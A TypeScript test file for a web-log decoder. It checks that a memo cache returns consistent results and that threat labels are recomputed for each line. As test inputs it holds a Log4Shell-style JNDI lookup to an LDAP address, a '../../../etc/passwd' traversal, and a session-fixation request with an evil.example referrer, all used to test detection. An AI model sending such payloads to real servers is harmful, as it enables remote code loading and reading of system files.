/** What is remembered must read like one cut afresh, and never stand in for another. */
import { expect, test } from 'vitest';
import { createDecode } from '../decode.ts';
import { createMemo } from './memo.ts';

const { decode } = createDecode({ timezone: 'UTC', program: 'nginx' });
const line = (agent: string): string =>
  `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "${agent}"`;
const plain = 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0';

test('an agent is the same the first and every later time, also when one is the beginning of another', () => {
  for (const agent of [plain, `${plain}0`, plain, plain.slice(0, -1), `${plain} (compatible)`, plain, `${plain}0`])
    for (let n = 0; n < 3; n++) expect(decode(line(agent), 0)?.fields['user_agent.original']).toBe(agent);
});

test('an agent that carries an attack is judged each time, also behind a harmless beginning', () => {
  const attack = `${plain} ${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (const agent of [plain, attack, plain, attack])
    expect(decode(line(agent), 0)?.fields['threat.web'], agent).toEqual(agent === attack ? ['jndi'] : undefined);
});

test('a remembered request does not decide alone: who linked to it and whose site it is are looked at each time', () => {
  const from = (referrer: string, site = ''): unknown =>
    decode(
      `${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /?PHPSESSID=4f1c HTTP/1.1" 200 12 "${referrer}" "${plain}"`,
      0,
    )?.fields['threat.web'];
  for (let n = 0; n < 3; n++) {
    expect(from('https://evil.example/')).toEqual(['session-fixation']);
    expect(from('-')).toBeUndefined();
    expect(from('https://shop.example/?PHPSESSID=4f1c')).toBeUndefined();
    expect(from('https://shop.example/', 'shop.example:443 ')).toBeUndefined();
    expect(from('https://evil.example/', 'shop.example:443 ')).toEqual(['session-fixation']);
  }
});

test('request, referrer and agent each add what they show, once, in this order', () => {
  const attack = '../../../etc/passwd';
  const line = (request: string, referrer: string, agent: string): unknown =>
    decode(`192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "${request}" 404 12 "${referrer}" "${agent}"`, 0)?.fields[
      'threat.web'
    ];
  const jndi = `${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (let n = 0; n < 3; n++) {
    expect(line(`GET /${attack} HTTP/1.1`, '-', plain)).toEqual(['path-traversal']);
    expect(line(`GET /${attack} HTTP/1.1`, jndi, attack)).toEqual(['path-traversal', 'jndi', 'command-injection']);
    expect(line('GET / HTTP/1.1', attack, jndi)).toEqual(['jndi', 'command-injection', 'path-traversal']);
    expect(line('GET / HTTP/1.1', '-', plain)).toBeUndefined();
  }
});

test('what is remembered is bounded in number and in length, and the same while it is remembered', () => {
  let made = 0;
  const memo = createMemo(100, (text) => ({ text, number: made++ }));
  const of = (text: string): { text: string; number: number } => memo(`(${text})`, 1, text.length + 1);
  const first = of('one');
  expect(of('one')).toBe(first);
  for (let n = 0; n < 20_000; n++) {
    const { text } = of(`other ${n}`);
    expect(text).toBe(`other ${n}`);
  }
  expect(made).toBe(20_001);
  let again = 0;
  for (let n = 0; n < 20_000; n++) if (of(`other ${n}`).number === n + 1) again++;
  expect(again).toBeLessThanOrEqual(4096);
  expect(of('')).toEqual({ text: '', number: of('').number });
  const long = 'x'.repeat(101);
  expect(of(long)).not.toBe(of(long));
  expect(of(long.slice(1))).toBe(of(long.slice(1)));
});
